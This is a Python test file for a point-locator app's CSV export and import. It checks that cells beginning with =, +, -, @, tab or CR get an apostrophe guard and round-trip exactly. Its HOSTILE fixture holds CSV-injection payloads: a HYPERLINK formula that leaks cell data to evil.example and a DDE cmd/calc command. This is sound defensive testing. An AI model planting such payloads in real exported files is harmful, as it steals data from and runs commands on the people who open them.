"""CSV exports never hand a spreadsheet a formula, and CSV import reads them back losslessly.

OWASP "CSV injection": a cell starting with = + - @ tab or CR runs as a formula when the file is
opened in Excel or LibreOffice. Every CSV we write (the open-data download, the console's export,
`points export`) puts an apostrophe in front of such text; the import takes it off again.
"""

from __future__ import annotations

import csv
import io

import pytest
from helpers import login, make_point
from hypothesis import given
from hypothesis import strategies as st

from locator.io.features import FORMULA_STARTS, guard_cell, unguard_cell
from locator.io.files import ImportLimits, read_points
from locator.search.regions import Territory

HOSTILE = {  # field -> text an attacker (or a careless partner) could store in a point
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Пункт")',
    "address": "+1+cmd|' /C calc'!A0",
    "settlement": "-2+3",
    # No region: a write takes only one of the regions' public names (issue 16), so none holds this.
    "phone": "+380 44 123 45 67",
    "hours": "'=already guarded by someone",
    "note": "''two apostrophes, then text",
}
HARMLESS = {"name": "'Сонечко' кафе", "note": "Працює з 8:00 - до 20:00", "hours": "цілодобово"}
LONDON = (51.5072, -0.1276)  # a negative longitude: a number, never guarded
# The import's default keeps to Ukraine.
WORLD = ImportLimits(territory=Territory((-180.0, -90.0, 180.0, 90.0)))


@pytest.fixture
def points(store):
    made = [
        make_point("hostile-1", **HOSTILE),
        make_point("harmless-1", **HARMLESS),
        make_point("west-1", lat=LONDON[0], lon=LONDON[1], name="Лондон"),
    ]
    store.import_points(made)
    return sorted(store.all(), key=lambda p: p.id)


@pytest.fixture
def admin(client, make_user):
    make_user("admin", "admin")
    assert login(client, "admin").status_code == 302
    return client


def exports(client, admin, runner, tmp_path) -> dict[str, str]:
    """Every CSV the app writes, by where it came from."""
    target = tmp_path / "cli.csv"
    assert runner.invoke(args=["points", "export", str(target)]).exit_code == 0
    return {
        "download": client.get("/api/v1/points.csv").get_data(as_text=True),
        "format=csv": client.get("/api/v1/points?format=csv").get_data(as_text=True),
        "console": admin.get("/operator/export.csv").get_data(as_text=True),
        "cli": target.read_text(encoding="utf-8"),
    }


def test_no_exported_cell_starts_a_formula(client, admin, runner, tmp_path, points):
    for source, text in exports(client, admin, runner, tmp_path).items():
        rows = {row["id"]: row for row in csv.DictReader(io.StringIO(text))}
        assert set(rows) == {p.id for p in points}, source
        for row in rows.values():
            for column, cell in row.items():
                if column in ("lat", "lon"):
                    float(cell)  # a number, written as one
                    continue
                assert not cell.startswith(FORMULA_STARTS), (source, column, cell)
        hostile = rows["hostile-1"]
        for field, text_value in HOSTILE.items():
            assert hostile[field] == "'" + text_value, (source, field)
        for field, text_value in HARMLESS.items():
            assert rows["harmless-1"][field] == text_value, (source, field)
        assert float(rows["west-1"]["lon"]) == LONDON[1] and rows["west-1"]["lon"].startswith("-")


def test_every_csv_export_imports_back_exactly(client, admin, runner, tmp_path, points):
    for source, text in exports(client, admin, runner, tmp_path).items():
        path = tmp_path / f"{source.replace('=', '-')}.csv"
        path.write_text(text, encoding="utf-8")
        assert sorted(read_points(path, limits=WORLD), key=lambda p: p.id) == points, source


def test_a_partner_file_keeps_its_own_apostrophes(tmp_path):
    """Only what our guard could have written loses an apostrophe on import."""
    path = tmp_path / "partner.csv"
    path.write_text(
        "id,name,status,lat,lon,note\n"
        "a1,'Сонечко' кафе,open,50.45,30.52,'=1+2\n"
        "a2,Школа,open,50.46,-30.52,'quoted'\n",
        encoding="utf-8",
    )
    by_id = {p.id: p for p in read_points(path, limits=WORLD)}
    assert by_id["a1"].name == "'Сонечко' кафе" and by_id["a1"].note == "=1+2"
    assert by_id["a2"].note == "'quoted'" and by_id["a2"].lon == -30.52


@pytest.mark.parametrize(
    ("stored", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+380", "'+380"),
        ("-5 °C", "'-5 °C"),
        ("@here", "'@here"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("''", "'''"),
        ("'", "'"),
        ("'a'", "'a'"),
        ("a=b", "a=b"),
        ("", ""),
        (-30.5, -30.5),
        (None, None),
    ],
)
def test_guard_cell(stored, written):
    assert guard_cell(stored) == written
    assert unguard_cell(written) == stored


@given(st.text(max_size=20))
def test_guarding_any_text_is_undone_exactly(text):
    guarded = guard_cell(text)
    assert unguard_cell(guarded) == text
    assert not guarded.startswith(FORMULA_STARTS)
